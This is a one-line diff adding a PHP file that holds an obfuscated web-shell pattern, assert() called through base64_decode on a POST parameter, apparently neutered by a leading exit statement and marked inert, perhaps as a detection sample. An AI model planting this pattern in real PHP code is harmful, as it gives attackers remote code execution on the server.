@@ -1,0 +1,1 @@
+<?php exit; /* inert */ @call_user_func(base64_decode("YXNzZXJ0"), $_POST["x"]);
